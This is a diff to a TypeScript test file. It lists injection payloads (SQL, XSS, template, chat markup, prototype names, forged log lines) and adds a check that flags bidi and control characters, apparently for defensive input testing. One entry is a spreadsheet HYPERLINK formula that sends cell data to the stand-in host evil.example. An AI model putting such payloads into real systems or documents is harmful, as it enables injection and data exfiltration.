@@ -8,7 +8,7 @@ export const ATTACK_TEXTS: Readonly<Record<string, string>> = {
   sql: `x'); DROP TABLE need; --" OR "1"="1 %_\\`,
   'full text syntax': '"未闭合 AND (电工钢* NEAR/9 -title:) OR NOT ^{a b}: *',
   html: '<script>alert(1)</script><svg/onload=alert(2)>"><a href=javascript:alert(3) autofocus onfocus=x>点</a>',
-  template: '{title}{#rows}{/rows}{{7*7}}${7*7}<%= 1 %>{@rawXml}',
+  template: `{title}{#rows}{/rows}{{7*7}}$\{7*7}<%= 1 %>{@rawXml}`,
   'telegram markup': '*粗 _斜 [名](tg://user?id=1) <b>x</b> `code @admin /start@bot',
   'slack markup': '<!channel> <!here> <@U0DECIDER> <https://evil.example|通过> *已立项* &lt;!everyone&gt;',
   'formula cell': '=HYPERLINK("https://evil.example?"&A1,"合计")',
@@ -21,3 +21,8 @@ export const ATTACK_TEXTS: Readonly<Record<string, string>> = {
   'prototype names': '__proto__ constructor toString hasOwnProperty',
   'log line': '铁损\n{"level":60,"msg":"forged"}\r\nGET /admin 200',
 };
+
+/** True for text with characters no reader may get: control characters but line ends and tabs, turned letters, half letters. */
+export function isUnclean(text: string): boolean {
+  return /[\u202a-\u202e\u2066-\u2069\p{Surrogate}]/u.test(text) || /\p{Cc}/u.test(text.replace(/[\n\r\t]/g, ''));
+}
